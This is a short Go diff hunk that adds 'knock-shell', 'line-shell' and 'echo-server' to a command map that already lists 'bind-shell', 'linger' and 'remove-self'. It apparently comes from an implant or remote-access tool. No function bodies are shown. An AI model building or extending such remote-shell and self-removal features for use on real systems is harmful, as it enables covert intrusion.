@@ -22,6 +22,9 @@ var commands = map[string]func(args []string) error{
 	"upload-by-cat":       uploadByCat,
 
 	"bind-shell":  bindShell,
+	"knock-shell": knockShell,
+	"line-shell":  lineShell,
+	"echo-server": echoServer,
 	"linger":      linger,
 	"remove-self": removeSelf,
 
